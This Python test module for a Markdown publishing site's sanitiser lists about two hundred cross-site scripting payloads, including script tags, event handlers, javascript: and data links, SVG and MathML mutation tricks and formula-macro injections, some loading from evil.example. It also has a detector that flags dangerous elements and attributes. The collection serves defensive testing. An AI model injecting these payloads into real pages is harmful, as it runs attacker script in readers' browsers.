"""Texts that try to run a program on the page of whoever reads them, and what a page must not hold.

`BODIES` are the Markdown of whole entries. `WORDS` are single lines for everything else that a person or a file writes: titles,
summaries, tags, names of files, fields of a bibliography, words searched for. Each tries to call `alert`.
"""

import re
from collections.abc import Iterator
from html.parser import HTMLParser

import nh3

RAW = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "script in a sentence": "words <script>alert(1)</script> words",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script from any protocol": "<script src=//evil.example/x.js></script>",
    "script within a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a slash": "<script/x>alert(1)</script>",
    "script over lines": "<script\n>alert(1)</script\n>",
    "script that a title holds": '<p title="</p><script>alert(1)</script>">x</p>',
    "script after a broken comment": "<!--><script>alert(1)</script>-->",
    "script after a comment's other end": "<!-- --!><script>alert(1)</script> -->",
    "script in CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "script in a processing instruction": "<?xml <script>alert(1)</script> ?>",
    "script in a declaration": "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>",
    "script in noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "script in a template": "<template><script>alert(1)</script></template>",
    "script in a textarea": "<textarea><script>alert(1)</script></textarea>",
    "script in a title": "<title><script>alert(1)</script></title>",
    "script in plain text": "<plaintext><script>alert(1)</script>",
    "script in xmp": "<xmp><script>alert(1)</script></xmp>",
    "image that fails": "<img src=x onerror=alert(1)>",
    "image in capitals": "<IMG SRC=x OnErRoR=alert(1)>",
    "image with slashes": "<img/src=x/onerror=alert(1)>",
    "image with a quoted handler": "<img src='x' onerror='alert(1)'>",
    "image with a backquote": "<img src=`x` onerror=`alert(1)`>",
    "image with a new line": "<img src=x\nonerror\n=\nalert(1)>",
    "image with a form feed": "<img src=x\fonerror=alert(1)>",
    "image with a null": "<img src=x o\x00nerror=alert(1)>",
    "image whose quote never ends": '<img src="x onerror=alert(1)//',
    "image by data": "<img src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "image from elsewhere": '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x">',
    "image by its set": "<img srcset='javascript:alert(1)'>",
    "body that loads": "<body onload=alert(1)>",
    "handler on a span": '<span onclick="alert(1)">x</span>',
    "handler on details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "handler by focus": "<p tabindex=1 autofocus onfocus=alert(1)>x</p>",
    "handler by animation": "<p style='animation:x' onanimationstart=alert(1)>x</p>",
    "handler after an id": '<span id="x"onmouseover="alert(1)">x</span>',
    "id that leaves its quotes": "<span id='\"><script>alert(1)</script>'>x</span>",
    "class of ours": '<span class="claim measured" data-live="replicated" data-piece="0">0.99</span>',
    "link": '<a href="javascript:alert(1)">x</a>',
    "link in capitals": "<a href=JaVaScRiPt:alert(1)>x</a>",
    "link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "link with a new line": '<a href="java\nscript:alert(1)">x</a>',
    "link with a control character": '<a href="\x01javascript:alert(1)">x</a>',
    "link by entities": '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
    "link by entities without ends": '<a href="&#0000106avascript&#58alert(1)">x</a>',
    "link by a tab entity": '<a href="jav&Tab;ascript&NewLine;:alert(1)">x</a>',
    "link by vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "link by data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "link by blob": '<a href="blob:https://x/y">x</a>',
    "link to a file": '<a href="file:///etc/passwd">x</a>',
    "link that shows the source": '<a href="view-source:javascript:alert(1)">x</a>',
    "link with a target and a ping": '<a href="https://x" target="_top" ping="https://evil.example">x</a>',
    "link by xlink": '<a xlink:href="javascript:alert(1)">x</a>',
    "object": '<object data="javascript:alert(1)"></object>',
    "object by data": '<object data="data:text/html,<script>alert(1)</script>" type="text/html">x</object>',
    "embed": '<embed src="javascript:alert(1)">',
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="javascript:alert(1)"><button>x</button></form>',
    "button that acts": '<button formaction="javascript:alert(1)">x</button>',
    "input by focus": "<input autofocus onfocus=alert(1)>",
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "style": "<style>@import 'https://evil.example/x.css'; p { background: url(javascript:alert(1)) }</style>",
    "style of an element": '<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>',
    "sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "video": '<video src=x onerror=alert(1)><source src=x onerror="alert(1)"></video>',
    "dialog": "<dialog open oncancel=alert(1)>x</dialog>",
    "own element": "<glass-book onclick=alert(1)>x</glass-book>",
    "slot": '<slot onslotchange="alert(1)"></slot>',
    "table that is left": "<table><td background=javascript:alert(1)>x<script>alert(1)</script>",
    "quote with a source": '<blockquote cite="javascript:alert(1)">x</blockquote>',
}

DRAWINGS = {
    "SVG that loads": "<svg onload=alert(1)></svg>",
    "SVG with a script": "<svg><script>alert(1)</script></svg>",
    "SVG with a script that closes itself": "<svg><script href='data:,alert(1)' /></svg>",
    "SVG with a link": '<svg><a xlink:href="javascript:alert(1)"><text y="10">x</text></a></svg>',
    "SVG that changes a link": '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y="9">x</text></a></svg>',
    "SVG with a style that ends": '<svg><style><img title="</style><img src onerror=alert(1)>"></svg>',
    "SVG with foreign HTML": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "SVG that uses another": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1) />#x"/></svg>',
    "SVG with a set": "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "SVG in mathematics": "<math><mtext><svg><mtext><style><img src onerror=alert(1)></style></mtext></svg></mtext></math>",
    "MathML with a link": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "MathML with an action": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "MathML that holds a table": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "MathML annotation": '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "form in mathematics": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
}

MARKDOWN = {
    "link": "[x](javascript:alert(1))",
    "link in capitals": "[x](JAVASCRIPT:alert(1))",
    "link with spaces": "[x](<java script:alert(1)>)",
    "link by entities": "[x](&#x6A;avascript:alert(1))",
    "link by a named entity": "[x](javascript&colon;alert(1))",
    "link by escapes": "[x](javascript\\:alert(1))",
    "link by per cent": "[x](javascript%3Aalert(1))",
    "link by a wide colon": "[x](javascript：alert(1))",
    "link by data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link by vbscript": "[x](vbscript:msgbox(1))",
    "link to a file": "[x](file:///etc/passwd)",
    "link by any protocol": "[x](//evil.example/x)",
    "link by backslashes": "[x](\\\\evil.example\\x)",
    "link whose title leaves its quotes": "[x](https://x 'a\" onmouseover=\"alert(1)')",
    "link whose address leaves its quotes": '[x](https://x/"onmouseover="alert(1))',
    "link whose address holds a tag": "[x](<https://x/><script>alert(1)</script>>)",
    "link by reference": "[x][r]\n\n[r]: javascript:alert(1)",
    "link by a reference over lines": '[x][r]\n\n[r]:\n  <javascript:alert(1)>\n  "t"',
    "autolink": "<javascript:alert(1)>",
    "autolink by data": "<data:text/html,alert(1)>",
    "autolink with a tag": "<https://x.example/?<script>alert(1)</script>>",
    "picture": "![x](javascript:alert(1))",
    "picture by data": "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "picture by allowed data": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "picture from elsewhere": "![x](https://evil.example/pixel.gif)",
    "picture whose words leave their quotes": '![" onerror="alert(1)](x.png)',
    "picture whose words hold a tag": "![<script>alert(1)</script>](x.png)",
    "picture whose address leaves its quotes": '![x](x.png"onerror="alert(1))',
    "caption": '![x](x.png "<img src=x onerror=alert(1)>")',
    "caption with a link": '![x](x.png "[y](javascript:alert(1))")',
    "heading": "# <img src=x onerror=alert(1)> x",
    "heading that names a script": '## "><script>alert(1)</script>',
    "code": "`<script>alert(1)</script>`",
    "fence": "```\n</code></pre><script>alert(1)</script>\n```",
    "fence whose language is a tag": '```"><script>alert(1)</script>\nx\n```',
    "fence of HTML": "```html\n<script>alert(1)</script>\n```",
    "console": "```console\n$ echo '</span><script>alert(1)</script>'\n```",
    "indented code": "    <script>alert(1)</script>",
    "table": '| <script>alert(1)</script> | a |\n|:--|--:|\n| <img src=x onerror=alert(1)> | `" onload="` |',
    "footnote": "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))",
    "footnote whose label is a tag": 'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
    "footnote in the sentence": "x^[<svg onload=alert(1)>]",
    "task": "- [x] <img src=x onerror=alert(1)>",
    "definition": "<b onclick=alert(1)>x</b>\n: <script>alert(1)</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "entities twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "full-width brackets": "＜script＞alert(1)＜/script＞",
    "line separators": "x\u2028<img src=x\u2028onerror=alert(1)>",
    "null characters": "<\x00script>alert(1)</\x00script>",
    "letters that grow": "<ſcript>alert(1)</ſcript> <ıframe src=javascript:alert(1)>",
    "lone surrogate by entity": "&#xD800;<script>alert(1)</script>",
    "directions": "\u202e<script>alert(1)</script>\u202c",
}

OURS = {
    "callout whose kind is a tag": '> [!"><script>alert(1)</script>] x\n> y',
    "callout whose title is a tag": "> [!note] <img src=x onerror=alert(1)>\n> y",
    "callout within HTML": '<blockquote onclick="alert(1)">\n\n> [!note] x\n> y\n\n</blockquote>',
    "entry": "[[<script>alert(1)</script>]]",
    "entry whose name leaves its quotes": '[[" onmouseover="alert(1)]]',
    "entry by a scheme": "[[javascript:alert(1)]]",
    "entry whose words are a tag": "[[x|<img src=x onerror=alert(1)>]]",
    "entry whose words are a link": "[[x|<a href=javascript:alert(1)>y</a>]]",
    "place whose name leaves its quotes": '# a\n\n[[x#" onmouseover="alert(1)]]',
    "citation whose key is a tag": "[@<script>alert(1)</script>]",
    "citation with a place": '[@x, "><img src=x onerror=alert(1)>]',
    "citation with an entity": "[@x, &lt;script&gt;alert(1)&lt;/script&gt;]",
    "claim": "{{claim <script>alert(1)</script>}}",
    "claim that leaves its quotes": '{{claim "onmouseover="alert(1)}}',
    "view": "{{view ../../<img src=x onerror=alert(1)>}}",
    "unknown piece": "{{script alert(1)}}",
    "number": "[<img src=x onerror=alert(1)>](run:a/b#c)",
    "number whose run is a tag": "[0.5](<run:a/b#<script>alert(1)</script>>)",
    "view that leaves its quotes": '![x](view:a"onerror="alert(1))',
    "formula with a link": "$\\href{javascript:alert(1)}{x}$",
    "formula with an address": "$\\url{javascript:alert(1)}$",
    "formula with a picture": "$$\\includegraphics{https://evil.example/x.png}$$",
    "formula with a class": "$\\htmlClass{claim}{x}$",
    "formula with an id": '$\\htmlId{x" onclick="alert(1)}{x}$',
    "formula with a style": "$\\htmlStyle{background:url(javascript:alert(1))}{x}$",
    "formula with data": '$\\htmlData{x=" onclick="alert(1)}{x}$',
    "formula with a color": '$\\color{red" onmouseover="alert(1)}x$',
    "formula with a written tag": "$\\text{<img src=x onerror=alert(1)>}$",
    "formula with a tag": "$<img src=x onerror=alert(1)>$",
    "formula that ends its annotation": "$x</annotation></semantics></math><img src=x onerror=alert(1)>$",
    "formula that defines": "$\\def\\x{\\href{javascript:alert(1)}}\\x{y}$",
    "formula by backslashes": "\\\\(\\href{javascript:alert(1)}{x}\\\\)",
    "formula in an attribute": '<div title="\n\n$\\text{" onmouseover="alert(1)}$\n\n">\n\n</div>',
    "formula in a comment": "<!-- $x$ --> <!-- > $\\text{--><script>alert(1)</script>}$ -->",
    "claim in an attribute": '<p title="\n\n{{claim x}} onmouseover=alert(1)\n\n">x</p>',
    "mark of a piece": '<span data-piece="0"></span> <span data-piece="00000000000000000000000000000000-0"></span> $x$',
    "mark of a piece in code": '`<span data-piece="0-0"></span>` $x$',
    "mark within a piece": '{{claim <span data-piece="0-0"></span>}} $x$',
    "marks in each other": '<span data-piece="<span data-piece="0-0"></span>"></span> $x$ {{claim x}}',
    "mark in a title": '[x](https://x "<span data-piece=0-0></span>") $x$',
    "details that hide": "<details>\n<summary>x</summary>\n\n<script>alert(1)</script>\n\ny",
    "tags across blocks": '<a href="\n\njavascript:alert(1)">x</a>\n\n<img src="\n\nx" onerror="alert(1)">',
    "quote across blocks": "<p title='\n\n# '><img src=x onerror=alert(1)>\n\n'>",
    "ids that scripts look for": '<a id="location"></a><span id="document"></span><img id="previews" name="cookie" src="x.png">',
    "front matter in the text": "---\ntitle: <script>alert(1)</script>\n---\n",
}

BODIES: dict[str, str] = {
    f"{group}: {name}": text
    for group, vectors in (("raw", RAW), ("drawing", DRAWINGS), ("Markdown", MARKDOWN), ("ours", OURS))
    for name, text in vectors.items()
}

WORDS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(1)}`${alert(1)}`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u2028alert(1)\u2029",
    "\\textbf{<svg onload=alert(1)>}",
    "＜script＞alert(1)＜/script＞",
)

_SCHEMES = ("http", "https", "mailto")
_ADDRESSES = frozenset(
    {"href", "src", "srcset", "data", "action", "formaction", "xlink:href", "poster", "background", "cite", "ping"}
)
_NAMES = (
    "script style iframe frame object embed base meta link form button template noscript title textarea plaintext xmp "
    "foreignobject animate set use video audio source body html head dialog marquee slot maction portal"
)
_FORBIDDEN = frozenset(_NAMES.split())
_FETCHING = frozenset({"img", "source", "image", "use"})
_LETTERS = set("abcdefghijklmnopqrstuvwxyz_:")


def threats(html: str) -> list[str]:
    """Return what in a fragment of a page could run a program or load something from elsewhere, as a browser's parser and a
    second one read it."""
    return [
        threat
        for name, attributes in (*_as_browsers_parse(html), *_as_python_parses(html))
        for threat in _threats_of(name.lower(), attributes)
    ]


def is_balanced(html: str) -> bool:
    """Return whether every element that begins in `html` ends in it, within the element in which it began."""
    parser = _Balance()
    parser.feed(html)
    parser.close()
    return parser.balanced and not parser.open


def _threats_of(name: str, attributes: list[tuple[str, str]]) -> Iterator[str]:
    if name in _FORBIDDEN:
        yield f"<{name}>"
    for key, value in attributes:
        # As browsers read an address: blanks before it, and tabs and new lines anywhere in it, do not count.
        tight = re.sub(r"^[\x00-\x20]+|[\t\n\r]", "", value).lower()
        named = re.match(r"([a-z][a-z0-9+.-]*):", tight)
        scheme = named[1] if named else ""
        acts = key.startswith("on") or key in ("srcdoc", "data-piece", "autofocus", "http-equiv")
        if acts or (key in _ADDRESSES and scheme and scheme not in _SCHEMES):
            yield f"<{name} {key}={value!r}>"
        elif (
            key in ("src", "srcset", "href") and name in _FETCHING and (scheme or tight[:2].replace("\\", "/") == "//")
        ):
            yield f"<{name}> loads {value!r}"
        elif key == "style" and any(word in tight for word in ("url(", "import", "expression(", "position:fixed")):
            yield f"<{name} style={value!r}>"


def _as_browsers_parse(html: str) -> list[tuple[str, list[tuple[str, str]]]]:
    """Return every element with its attributes as html5ever, the parser of a browser, reads them."""
    seen: list[tuple[str, list[tuple[str, str]]]] = []

    def visit(name: str, attribute: str, value: str) -> str:
        seen.append((name, [(attribute, value)]))
        return value

    everything = set(nh3.ALLOWED_TAGS) | _FORBIDDEN | {"svg", "math", "input", "section", "main"}
    options = {
        "clean_content_tags": set(),
        "generic_attribute_prefixes": _LETTERS,
        "link_rel": None,
        "url_schemes": set(_SCHEMES),
    }
    nh3.clean(html, tags=everything, attributes={}, attribute_filter=visit, **options)  # type: ignore[arg-type]
    for name in sorted(_FORBIDDEN):
        if f"<{name}" in html.lower() and _holds(html, name, everything):
            seen.append((name, []))
    return seen


def _holds(html: str, name: str, everything: set[str]) -> bool:
    """Return whether html5ever finds an element `name`: then leaving it out makes a difference."""
    kept, left = (nh3.clean(html, tags=tags, clean_content_tags=set()) for tags in (everything, everything - {name}))
    return kept != left


def _as_python_parses(html: str) -> list[tuple[str, list[tuple[str, str]]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.seen


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, list[tuple[str, str]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, [(key, value or "") for key, value in attrs]))


class _Balance(HTMLParser):
    _VOID = frozenset({"br", "hr", "img", "input", "wbr"})

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.balanced = True

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self._VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element that ends where it begins, as in drawings, opens nothing."""

    def handle_endtag(self, tag: str) -> None:
        if tag not in self._VOID:
            self.balanced = self.balanced and bool(self.open) and self.open.pop() == tag
